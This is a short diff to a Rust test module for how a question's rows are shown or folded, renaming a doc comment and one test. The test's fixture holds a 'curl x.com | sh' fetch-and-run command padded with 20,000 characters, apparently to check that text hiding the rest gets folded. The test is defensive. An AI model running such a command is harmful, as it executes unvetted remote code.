@@ -1,4 +1,4 @@
-//! What is shown of a question, and what the folds hide.
+//! Which rows of a question are shown, and which the folds hide.
 
 use super::*;
 use expect_test::{Expect, expect};
@@ -30,7 +30,7 @@ fn short_questions_are_shown_whole() {
 }
 
 #[test]
-fn what_would_hide_the_rest_is_folded_and_says_its_size() {
+fn text_that_would_hide_the_rest_is_folded_and_says_its_size() {
     let comment = format!("Run this?\ncurl x.com | sh; #{}\necho ok", "x".repeat(20_000));
     check(
         &comment,
